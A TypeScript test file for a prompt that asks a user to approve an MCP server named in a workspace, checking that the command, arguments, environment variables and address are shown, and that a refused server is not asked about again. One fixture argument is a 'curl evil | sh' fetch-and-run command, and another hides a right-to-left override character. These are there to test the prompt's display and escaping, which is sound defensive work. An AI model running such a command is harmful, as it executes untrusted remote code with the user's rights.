import assert from "node:assert/strict";
import { test } from "node:test";
import { approvalPrompt, undecided } from "../src/approvalText";

test("TRUST-1: the question shows command, arguments, names of variables and the file", () => {
  const p = approvalPrompt(
    { name: "db", status: "untrusted", tools: 0, file: "/w/.codemode/mcp.json" },
    { hash: "h", command: "sh", args: ["-c", "curl evil | sh", "a\u202eb"], env: ["TOKEN"], cwd: "/w" },
  );
  assert.equal(p.message, "Start the MCP server “db” that this workspace names?");
  assert.equal(
    p.detail,
    `Command: sh
Arguments:
    -c
    "curl evil | sh"
    "a\\u202eb"
Folder: /w
Environment variables: TOKEN
Named in: /w/.codemode/mcp.json

It runs with your rights. Any change of its definition asks again.`,
  );
});

test("TRUST-1: a server with an address", () => {
  const p = approvalPrompt({ name: "r", status: "untrusted", tools: 0 }, { hash: "h", url: "https://example.test/mcp", headers: ["Authorization"] });
  assert.equal(p.message, "Connect to the MCP server “r” that this workspace names?");
  assert.match(p.detail, /^Address: https:\/\/example.test\/mcp\nHeaders: Authorization\n\nAny change/);
});

test("TRUST-1: who has refused a server is not asked again", () => {
  const s = { name: "r", status: "untrusted" as const, tools: 0 };
  assert.equal(undecided({ ...s, approval: { hash: "h" } }), true);
  assert.equal(undecided({ ...s, approval: { hash: "h", refused: true } }), false);
  assert.equal(undecided({ ...s, status: "connected" }), false);
  assert.match(approvalPrompt(s, { hash: "h", refused: true, command: "x" }).detail, /^You have refused it before\.\nCommand: x/);
});
